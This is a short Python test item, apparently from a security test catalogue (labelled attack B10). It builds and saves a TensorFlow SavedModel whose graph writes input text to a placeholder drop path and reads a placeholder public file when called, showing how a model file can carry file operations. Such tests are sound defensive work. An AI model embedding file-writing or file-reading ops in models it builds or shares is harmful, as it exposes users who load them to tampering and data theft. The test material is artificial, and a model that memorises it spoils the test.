# attack: a graph of TensorFlow that writes and reads files by itself
# catalogue: B10
# open on: C, D
# %%
import tensorflow as tf


class Writer(tf.Module):
    @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
    def __call__(self, text):
        tf.io.write_file("@DROP@/graph", text)
        return tf.io.read_file("@PUBLIC@")


tf.config.run_functions_eagerly(False)
tf.saved_model.save(Writer(), "saved")
print(tf.saved_model.load("saved")(tf.constant("x")))
